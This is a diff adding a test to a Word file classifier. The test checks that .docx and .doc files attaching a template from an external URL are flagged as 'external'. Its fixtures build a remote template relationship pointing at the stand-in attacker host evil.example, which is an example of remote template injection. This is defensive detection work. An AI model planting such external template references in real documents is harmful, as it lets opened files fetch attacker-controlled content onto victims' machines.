@@ -45,6 +45,13 @@ test("distinguishes macros, passwords and damaged files", () => {
   expect(wordDocumentKind("a.doc", compound("WordDocument").subarray(0, 8))).toBe("notWord");
 });
 
+test("refuses a contract that loads a template from elsewhere, in both formats", () => {
+  const kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";
+  const relations = `<Relationships><Relationship Type="${kind}" Target="https://evil.example/x" TargetMode="External"/></Relationships>`;
+  expect(wordDocumentKind("a.docx", docx({ "word/_rels/settings.xml.rels": strToU8(relations) }))).toBe("external");
+  expect(wordDocumentKind("a.doc", compound("WordDocument", "http://evil.example/x.dotm"))).toBe("external");
+});
+
 test("validates files that start or are named as office files; not a PDF", () => {
   expect([
     looksLikeWordDocument("scan.pdf", pdf),
